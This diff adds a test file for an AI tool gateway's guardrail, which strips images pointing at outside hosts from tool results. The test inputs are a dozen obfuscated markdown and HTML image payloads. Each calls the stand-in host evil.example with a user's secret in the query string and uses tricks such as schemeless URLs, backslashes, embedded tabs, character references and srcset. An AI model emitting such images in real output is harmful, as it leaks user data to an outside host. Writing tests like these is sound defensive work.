@@ -1,0 +1,47 @@
+// Images from outside hosts whose URL a browser fetches and a check for "http(s)://" or "//" alone did
+// not see: a scheme without slashes (`http:evil.example/…`), backslashes a browser reads as slashes, a
+// tab or line break inside the URL (a browser removes them), character references (decoded in an HTML
+// attribute and in a Markdown destination), a quoted attribute value holding ">" before `src`, and
+// `srcset`. End to end: a real gateway, the official SDK client, and test/fixtures/hostile-server.mjs,
+// whose `echo` answers its text as given.
+import assert from 'node:assert/strict';
+import { resolve } from 'node:path';
+import { describe, it } from 'node:test';
+import { gatewayWithClients } from '../helpers/gateway-clients.js';
+import { textOf } from '../helpers/sdk.js';
+
+const FIXTURE = resolve('test/fixtures/hostile-server.mjs');
+const UPSTREAM = { name: 'hs', transport: 'stdio' as const, command: process.execPath, args: [FIXTURE], sandbox: 'none' as const, sharing: 'shared' as const };
+const LEAK = 'evil.example/p.png?d=the-users-secret';
+
+describe('images from outside hosts: the URL as a browser fetches it', () => {
+  const { clients } = gatewayWithClients({
+    upstreams: [UPSTREAM],
+    endpoints: [{ path: '/strip', upstreams: ['hs'], guardrails: { hiddenText: { results: 'strip', imageHosts: ['img.example.com'] } } }],
+  });
+  const echo = async (text: string) => textOf(await clients['/strip']!.callTool({ name: 'echo', arguments: { text } }));
+
+  it('fetched from another host however the URL is written: found and stripped', async () => {
+    const images = [
+      `![x](http:${LEAK})`,
+      `![x](https:\\\\${LEAK})`,
+      `![x](<ht\ttps://${LEAK}>)`,
+      `![x](https&#58;//${LEAK})`,
+      `<img src="http:${LEAK}">`,
+      `<img src="\\\\${LEAK}">`,
+      `<img src="/\\${LEAK}">`,
+      `<img src="ht\ntps://${LEAK}">`,
+      `<img src="&#104;ttps://${LEAK}">`,
+      `<img alt="a>b" src="https://${LEAK}">`,
+      `<img srcset="https://${LEAK} 2x">`,
+      `<img src="p.png" srcset="p.png 1x, //${LEAK} 2x">`,
+    ];
+    for (const image of images) assert.equal(await echo(`Done. ${image} Bye.`), 'Done. [removed] Bye.', image);
+  });
+
+  it('an allowed host, a relative or data: URL, a data-src: left as they are', async () => {
+    for (const image of ['![x](https://img.example.com/a.png)', '<img src="img/a.png" srcset="img/a.png 1x, img/b.png 2x">', '<img src="data:image/png;base64,AAAA">', '<img data-src="https://evil.example/x">', '![x](http:img.example.com/a.png)']) {
+      assert.equal(await echo(`Done. ${image} Bye.`), `Done. ${image} Bye.`, image);
+    }
+  });
+});
